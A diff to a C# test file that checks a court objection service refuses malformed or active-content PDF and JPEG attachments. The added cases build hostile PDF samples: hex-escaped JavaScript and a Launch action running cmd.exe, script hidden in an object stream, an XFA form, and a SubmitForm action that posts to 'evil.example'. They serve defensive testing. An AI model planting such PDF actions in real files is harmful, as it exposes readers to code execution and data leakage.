@@ -10,7 +10,7 @@ namespace Credit.Tests.Objections;
 /// marker and without active content, a JPEG by its signature and by decoding whole; within the size limits.</summary>
 public sealed class ObjectionAttachmentTests(PresentObjectionFixture platform) : IClassFixture<PresentObjectionFixture>
 {
-    private static readonly byte[] Pdf = Encoding.ASCII.GetBytes("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n");
+    private static readonly byte[] Pdf = TestPdfs.Built();
 
     private static JsonObject File(string name, byte[] content) => new() { ["fileName"] = name, ["content"] = Convert.ToBase64String(content) };
 
@@ -56,12 +56,17 @@ public sealed class ObjectionAttachmentTests(PresentObjectionFixture platform) :
     }
 
     [Theory]
-    [InlineData("text named .jpg", "not an image")]
+    [InlineData("text named .jpg", "must be a PDF or a JPEG")]
     [InlineData("truncated jpeg", "jpeg")]
     [InlineData("pdf without end marker", "%%EOF")]
     [InlineData("pdf with javascript", "/JavaScript")]
+    [InlineData("pdf with hex-escaped javascript", "/JavaScript")]
+    [InlineData("pdf with hex-escaped launch", "/Launch")]
+    [InlineData("pdf with javascript in an object stream", "/JavaScript")]
+    [InlineData("pdf with an xfa form", "/XFA")]
+    [InlineData("pdf submitting a form on opening", "/SubmitForm")]
     [InlineData("not base64", "base64")]
-    public async Task File_whose_content_is_not_a_whole_pdf_or_jpeg_is_refused_naming_it(string kind, string _)
+    public async Task File_whose_content_is_not_a_whole_pdf_or_jpeg_is_refused_naming_it(string kind, string named)
     {
         var (id, caseNumber, _) = await platform.ListAsync();
         var jpeg = TestPhotos.Jpeg(200, 120, withGps: false);
@@ -71,6 +76,11 @@ public sealed class ObjectionAttachmentTests(PresentObjectionFixture platform) :
             "truncated jpeg" => File("收据.jpg", jpeg[..(jpeg.Length / 3)]),
             "pdf without end marker" => File("凭证.pdf", Pdf[..40]),
             "pdf with javascript" => File("凭证.pdf", Encoding.ASCII.GetBytes("%PDF-1.4\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n%%EOF\n")),
+            "pdf with hex-escaped javascript" => File("凭证.pdf", TestPdfs.Document("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")),
+            "pdf with hex-escaped launch" => File("凭证.pdf", TestPdfs.Document("/OpenAction << /S /L#61unch /F (cmd.exe) >>")),
+            "pdf with javascript in an object stream" => File("凭证.pdf", TestPdfs.WithObjectStream("/OpenAction 4 0 R", [4], "<< /S /JavaScript /JS (app.alert(1)) >>")),
+            "pdf with an xfa form" => File("凭证.pdf", TestPdfs.Document("/AcroForm << /Fields [] /XFA 4 0 R >>", "(<xdp:xdp/>)")),
+            "pdf submitting a form on opening" => File("凭证.pdf", TestPdfs.Document("/OpenAction << /S /SubmitForm /F (http://evil.example/x) >>")),
             _ => new JsonObject { ["fileName"] = "a.pdf", ["content"] = "%%%not base64%%%" },
         };
 
@@ -78,7 +88,9 @@ public sealed class ObjectionAttachmentTests(PresentObjectionFixture platform) :
             ObjectionFixture.Objection(id, caseNumber, attachments: [File("好的.pdf", Pdf), file]));
 
         Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
-        Assert.Contains("attachments[1].content", await refused.Content.ReadAsStringAsync());
+        var problem = await refused.Content.ReadAsStringAsync();
+        Assert.Contains("attachments[1].content", problem);
+        Assert.Contains(named, problem, StringComparison.OrdinalIgnoreCase);
         // Nothing was filed: the subject's history has no objection.
         var history = await (await platform.Liwan.GetAsync($"{CourtRequests.Person(id)}/history")).Content.ReadAsStringAsync();
         Assert.DoesNotContain("ObjectionFiled", history);
